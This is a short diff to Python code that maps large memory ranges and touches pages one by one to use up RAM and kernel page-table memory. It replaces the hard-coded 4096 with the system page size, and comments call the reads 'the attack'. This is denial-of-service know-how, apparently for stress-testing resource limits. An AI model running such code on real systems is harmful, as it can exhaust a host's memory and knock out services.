@@ -69,14 +69,14 @@ def zero_memory(facts: Facts) -> None:
         return
     descriptor = os.open("/dev/zero", os.O_RDONLY)
     address = memory(facts["much"], mmap.MAP_SHARED, descriptor, protection=1)
-    for page in range(0, facts["much"], 4096):
+    for page in range(0, facts["much"], mmap.PAGESIZE):
         ctypes.c_char.from_address(address + page).value  # noqa: B018 - reading is the attack
 
 
 def page_tables(facts: Facts) -> None:
     """Read one page here and there of a huge range: each takes a page of the kernel's tables."""
-    step = 2 * MEGABYTE
-    count = facts["much"] // 4096
+    step = mmap.PAGESIZE * mmap.PAGESIZE // 8  # what one page of tables speaks of
+    count = facts["much"] // mmap.PAGESIZE
     address = memory(step * count, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, protection=1)
     for place in range(address, address + step * count, step):
         ctypes.c_char.from_address(place).value  # noqa: B018 - reading is the attack
